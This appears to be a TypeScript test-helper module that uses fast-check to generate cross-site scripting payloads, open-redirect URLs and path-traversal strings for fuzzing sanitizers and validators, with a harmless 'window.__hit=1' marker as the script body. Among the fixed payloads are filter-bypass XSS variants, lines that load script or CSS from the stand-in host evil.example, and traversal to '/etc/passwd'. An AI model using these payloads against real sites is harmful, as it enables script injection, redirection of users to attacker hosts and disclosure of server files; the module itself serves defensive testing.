import * as fc from 'fast-check';

/** What every script payload would call, and every page of the tests listens for. */
const CALL = 'window.__hit=1';

const TAGS = [
  'script',
  'img',
  'svg',
  'iframe',
  'body',
  'input',
  'details',
  'video',
  'math',
  'object',
  'a',
  'style',
  'base',
];
const HANDLERS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onclick', 'onbegin', 'onanimationstart'];
const QUOTES = ['"', "'", '`', ''];
const BREAKS = ['', '">', "'>", '</title>', '</script>', '</textarea>', '-->', ']]>', '</style>', '\\"></', '\u2028'];
const SPACES = [' ', '/', '\t', '\n', '\f', '%09', '/**/'];

const cased = (text: string): fc.Arbitrary<string> =>
  fc
    .array(fc.boolean(), { minLength: text.length, maxLength: text.length })
    .map((upper) => [...text].map((letter, at) => (upper[at] ? letter.toUpperCase() : letter)).join(''));

const element = fc
  .record({
    before: fc.constantFrom(...BREAKS),
    tag: fc.constantFrom(...TAGS).chain(cased),
    space: fc.constantFrom(...SPACES),
    handler: fc.constantFrom(...HANDLERS).chain(cased),
    quote: fc.constantFrom(...QUOTES),
    isOpen: fc.boolean(),
  })
  .map(
    ({ before, tag, space, handler, quote, isOpen }) =>
      `${before}<${tag}${space}src=x${space}${handler}=${quote}${CALL}${quote}${isOpen ? '' : '>'}`,
  );

const address = fc
  .record({
    scheme: fc
      .constantFrom('javascript:', 'vbscript:', 'data:text/html,', 'java\tscript:', ' javascript:', '\u0001javascript:')
      .chain(cased),
    attribute: fc.constantFrom('href', 'src', 'action', 'formaction', 'xlink:href', 'srcdoc', 'poster'),
    tag: fc.constantFrom('a', 'iframe', 'form', 'button', 'use', 'img', 'video', 'embed'),
  })
  .map(({ scheme, attribute, tag }) => `<${tag} ${attribute}="${scheme}${CALL}">x</${tag}>`);

const FIXED = [
  `<script>${CALL}</script>`,
  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `<svg><script>${CALL}</script></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CALL}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `{{constructor.constructor('${CALL}')()}}`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<base href=https://evil.example/>`,
  `javascript:${CALL}`,
  `<img src="data:text/html,<script>${CALL}</script>">`,
  `\u202e<img src=x onerror=${CALL}>`,
];

/** Markup that would run a script, if a page took it as markup. */
export const scripts: fc.Arbitrary<string> = fc.oneof(element, address, fc.constantFrom(...FIXED));

const EVIL = 'evil.example';

/** Addresses that lead away from an origin, in the spellings that parsers disagree about. */
export const redirects = (origin: string): fc.Arbitrary<string> =>
  fc.oneof(
    fc.constantFrom(
      `//${EVIL}`,
      `///${EVIL}`,
      `\\\\${EVIL}`,
      `/\\${EVIL}`,
      `/\t/${EVIL}`,
      `/\n/${EVIL}`,
      ` //${EVIL}`,
      `https:${EVIL}`,
      `https:/${EVIL}`,
      `${origin}@${EVIL}/`,
      `${origin}.${EVIL}/`,
      `${origin}//${EVIL}`,
      `${origin}\\@${EVIL}`,
      `http://${EVIL}#${origin}`,
      `http://${EVIL}?${origin}`,
      `/%2f${EVIL}`,
      `/..//${EVIL}`,
      'javascript:alert(1)',
      'data:text/html,x',
      'vbscript:x',
      'blob:null/x',
      'file:///etc/passwd',
      '',
      ' ',
      '\u0000',
    ),
    fc
      .tuple(
        fc.constantFrom('http:', 'https:', 'HTTPS:', 'ftp:', '', 'javascript:', '\u0001https:'),
        fc.constantFrom('//', '/', '\\\\', '/\\', '\\/', '///', '/\t/', '%2f%2f', ''),
        fc.constantFrom('', 'user@', `${new URL(origin).host}@`, `${new URL(origin).host}%40`),
        fc.constantFrom(EVIL, `${EVIL}:80`, '[::ffff:6.6.6.6]', '0x06060606', `${EVIL}.`, 'EVIL。example'),
        fc.constantFrom('', '/', '/path', '#x', '?x', `/${origin}`),
      )
      .map((parts) => parts.join('')),
    fc.webUrl({ withFragments: true, withQueryParameters: true }),
  );

const UP = ['../', '..\\', '..%2f', '..%5c', '%2e%2e/', '%2e%2e%2f', '..%252f', '....//', '..;/', '..%c0%af', '.%00./'];

/** Paths that climb to a file; the file's name comes last. */
export const climbs = (target: string): fc.Arbitrary<string> =>
  fc
    .tuple(
      fc.constantFrom('', '/', 'logo.svg/', './', '%2f', 'C:\\', 'file:///', '\\\\?\\'),
      fc.array(fc.constantFrom(...UP), { minLength: 1, maxLength: 8 }),
      fc.constantFrom(
        target,
        encodeURIComponent(target),
        `${target}%00.svg`,
        `${target}?`,
        `${target}#`,
        `${target}/.`,
      ),
    )
    .map(([before, up, file]) => before + up.join('') + file);
